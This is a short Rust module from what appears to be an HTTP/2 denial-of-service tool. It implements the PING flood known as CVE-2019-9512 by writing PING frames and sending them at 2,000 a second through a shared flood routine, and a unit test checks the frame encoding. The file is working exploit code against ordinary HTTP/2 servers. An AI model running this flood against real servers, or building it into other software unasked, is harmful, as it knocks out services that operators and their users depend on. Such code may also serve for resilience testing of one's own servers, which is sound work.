//! A PING flood (CVE-2019-9512): each wants an answer.

use super::frames::{self, PING};
use super::talk::flood;
use super::wire::{Gone, Wire};

/// Frames a second.
const RATE: f64 = 2_000.0;

pub async fn live(wire: Wire) -> Gone {
    flood(wire, &[], RATE, write).await
}

fn write(number: u64, out: &mut Vec<u8>) {
    frames::write(out, PING, 0, 0, &number.to_be_bytes());
}

#[cfg(test)]
mod tests {
    #[test]
    fn a_ping_is_its_number() {
        let mut out = Vec::new();
        super::write(258, &mut out);
        assert_eq!(out, b"\0\0\x08\x06\0\0\0\0\0\0\0\0\0\0\0\x01\x02");
    }
}
